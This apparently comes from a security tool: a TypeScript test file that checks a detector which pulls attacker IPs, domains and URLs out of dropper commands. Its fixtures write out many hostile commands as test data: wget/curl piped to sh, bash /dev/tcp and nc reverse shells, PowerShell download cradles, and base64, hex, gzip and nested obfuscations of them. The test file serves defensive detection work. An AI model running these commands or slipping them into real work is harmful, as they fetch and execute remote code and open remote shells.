import { deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { indicatorsIn } from './indicators.ts';
import { decodedLayers, layerLimits } from './layers.ts';

const b64 = (text: string | Buffer, encoding: BufferEncoding = 'utf8') =>
  (typeof text === 'string' ? Buffer.from(text, encoding) : text).toString('base64');
const escaped = (text: string, one: (code: number) => string) =>
  [...text].map((char) => one(char.charCodeAt(0))).join('');
const fetch = 'wget http://198.51.100.7/x.sh -O- | sh';
const url = 'url http://198.51.100.7/x.sh';
const nest = (text: string, times: number): string =>
  times === 0 ? text : nest(`echo ${b64(text)}|base64 -d|sh`, times - 1);

const forms: [name: string, text: string, ...wanted: string[]][] = [
  ['wget', fetch, url, 'ip 198.51.100.7'],
  [
    'curl, with a port and no scheme',
    'curl 198.51.100.7:81/a.sh|sh',
    'url http://198.51.100.7:81/a.sh',
    'ip:port 198.51.100.7:81',
  ],
  ['a name', 'wget evil.example/x', 'url http://evil.example/x', 'domain evil.example'],
  ['busybox tftp', 'busybox tftp -g -l .x -r a.arm7 198.51.100.7', 'url tftp://198.51.100.7/a.arm7'],
  ['tftp get', 'tftp 198.51.100.7 -c get a.sh', 'url tftp://198.51.100.7/a.sh'],
  [
    'ftpget',
    'ftpget -v -u anonymous -p anonymous -P 21 198.51.100.7 f.sh f.sh',
    'url ftp://198.51.100.7/f.sh',
  ],
  ['/dev/tcp', 'bash -i >& /dev/tcp/c2.example/4444 0>&1', 'domain c2.example'],
  ['nc', 'nc -e /bin/sh 198.51.100.7 4444', 'ip:port 198.51.100.7:4444'],
  ['scp', 'scp -F cfg -i key.ppk dlr@198.51.100.7:sh out_sh', 'ip 198.51.100.7'],
  ['echo in hexadecimal', `echo -ne '${escaped(fetch, (code) => `\\x${code.toString(16)}`)}' | sh`, url],
  [
    'printf in octal',
    `printf '${escaped(fetch, (code) => `\\${code.toString(8).padStart(3, '0')}`)}'|sh`,
    url,
  ],
  ['echo in octal with zero', `echo -e "${escaped(fetch, (code) => `\\0${code.toString(8)}`)}"|sh`, url],
  ['base64', `echo ${b64(fetch)} | base64 --decode | bash`, url],
  ['base64 backwards', `echo ${[...b64(fetch)].reverse().join('')}|rev|base64 -d|sh`, url],
  [
    'base64 over lines',
    `base64 -d <<EOF | sh\n${b64(`${fetch} # ${'x'.repeat(60)}`).replace(/.{40}/g, '$&\n')}\nEOF`,
    url,
  ],
  ['gzip in base64', `echo ${b64(gzipSync(fetch))}|base64 -d|gunzip|sh`, url],
  [
    'zlib in python',
    `python3 -c "import zlib,base64;exec(zlib.decompress(base64.b64decode('${b64(deflateSync(fetch))}')))"`,
    url,
  ],
  ['hex', `echo ${Buffer.from(fetch).toString('hex')} | xxd -r -p | sh`, url],
  ['perl pack', `perl -e 'system pack("H*","${Buffer.from(fetch).toString('hex')}")'`, url],
  ['a here-document', `cat <<EOF > a\n${fetch}\nEOF`, url],
  [
    'PowerShell',
    `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x.sh')"`,
    url,
  ],
  ['PowerShell -enc', `powershell -nop -enc ${b64("IEX(iwr 'http://198.51.100.7/x.sh')", 'utf16le')}`, url],
  ['PowerShell in pieces', "powershell $u='ht'+'tp://198.51.100.7/x.sh'; iwr $u", url],
  ['PowerShell formatted', "powershell iwr ('{1}{0}' -f 'tp://198.51.100.7/x.sh','ht')", url],
  ['character codes', `powershell ${escaped('http://198.51.100.7/x.sh', (code) => `[char]${code}+`)}''`, url],
  [
    'a list of codes',
    `node -e "eval(String.fromCharCode(${escaped(fetch, (code) => `${code},`).slice(0, -1)}))"`,
    url,
  ],
  [
    'python',
    `python -c 'import urllib.request as r;exec(r.urlopen("http://198.51.100.7/x.sh").read())'`,
    url,
  ],
  [
    'a python socket',
    `python3 -c 'import socket;s=socket.socket();s.connect(("198.51.100.7",9001))'`,
    'ip:port 198.51.100.7:9001',
  ],
  [
    'a perl socket',
    `perl -e 'use Socket;$i="198.51.100.7";$p=4242;connect(S,sockaddr_in($p,inet_aton($i)))'`,
    'ip:port 198.51.100.7:4242',
  ],
  ['php', `php -r '$s=fsockopen("198.51.100.7",4444);'`, 'ip:port 198.51.100.7:4444'],
  ['variables', 'u=http://198.51.100.7; curl $u/x.sh|sh', url],
  ['cut words', 'wg\'\'et h""ttp://198.51.100.7/x.sh', url],
  ['${IFS}', 'wget${IFS}198.51.100.7/x.sh', url],
  ['slashes kept apart', 'wget http:/\\/198.51.100.7/x.sh', url],
  ['one slash', 'wget http:/198.51.100.7/x.sh; sh x.sh', url],
  ['an address as a number', 'wget http://3325256711/x.sh', url],
  ['wraps in wraps', nest(fetch, 4), url],
  [
    'hex in base64 in escapes',
    `echo -e '${escaped(`echo ${b64(`echo ${Buffer.from(fetch).toString('hex')}|xxd -r -p|sh`)}|base64 -d`, (code) => `\\x${code.toString(16)}`)}'|sh`,
    url,
  ],
  ['percent', 'GET /x?cmd=wget%20http%3A%2F%2F198.51.100.7%2Fx.sh', url],
  ['a pool', './m -o stratum+tcp://pool.example:3333 -u x', 'domain pool.example'],
  ['a rogue master', 'SLAVEOF 198.51.100.7 8888', 'ip:port 198.51.100.7:8888'],
];

describe('addresses in droppers', () => {
  it.each(forms)('%s', (_, text, ...wanted) => {
    const found = indicatorsIn(text).map(({ type, value }) => `${type} ${value}`);
    expect(found).toEqual(expect.arrayContaining(wanted));
  });

  it.each([
    'ls -la; sh run.sh; cat /etc/passwd',
    'ping -c 1 127.0.0.1',
    'curl http://localhost:8080/',
    'wget http://127.0.0.1/x',
    'tar xzf a.tar.gz',
    'python setup.py build',
    'echo 1.2.3',
    'ssh-keygen -t rsa -f id.pem',
  ])('none in %s', (text) => expect(indicatorsIn(text)).toEqual([]));

  it('gives the address of a file, and never the name of a host that is everybody’s', () => {
    const found = indicatorsIn('curl https://raw.githubusercontent.com/a/b/x.sh|sh');
    expect(found.map(({ type }) => type)).toEqual(['url']);
  });
});

describe('any bytes', () => {
  const bytes = fc.uint8Array({ maxLength: 2_000 }).map((array) => Buffer.from(array).toString('latin1'));
  const pieces = fc.array(
    fc.oneof(
      fc.constantFrom(
        'wget ',
        'http://',
        '198.51.100.7',
        '$',
        'a=',
        '"',
        "'",
        '\\x',
        '\\0',
        '%',
        '+',
        '|base64 -d',
        '[char]',
        '{0}',
        ' -f ',
        'rev',
        '/dev/tcp/',
        ':',
        '\n',
        'tftp ',
        '(',
        ')',
      ),
      fc.string({ maxLength: 12 }),
      fc.base64String({ maxLength: 64 }),
    ),
    { maxLength: 200 },
  );
  it('never throw, and never cost more than the limits', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          bytes,
          pieces.map((list) => list.join('')),
          bytes.map((text) => nest(text, 3)),
        ),
        (text) => {
          const layers = decodedLayers(text);
          expect(layers.length).toBeLessThanOrEqual(layerLimits.texts);
          expect(layers.reduce((sum, { length }) => sum + length, 0)).toBeLessThanOrEqual(layerLimits.chars);
          expect(indicatorsIn(text).length).toBeLessThanOrEqual(64);
        },
      ),
      { numRuns: Number(process.env.CALTROP_FUZZ_RUNS ?? 1_000) },
    );
  });

  it('stop at bombs', () => {
    const bomb = b64(gzipSync(Buffer.alloc(50_000_000, 'wget http://198.51.100.7/x ')));
    for (const text of [
      `echo ${bomb}|base64 -d|gunzip`,
      nest(fetch, 40),
      'a=$a$a$a$a;'.repeat(5_000),
      `${'A'.repeat(65_000)}=`,
      "'+'".repeat(20_000),
      '1,'.repeat(30_000),
      'http://'.repeat(9_000),
      '\\x41'.repeat(16_000),
      'sh -c "'.repeat(9_000),
      '[char]('.repeat(9_000),
      '0x41 '.repeat(13_000),
      'export a='.repeat(7_000),
    ]) {
      const began = performance.now();
      indicatorsIn(text);
      expect(performance.now() - began, text.slice(0, 20)).toBeLessThan(1_000);
    }
  });
});
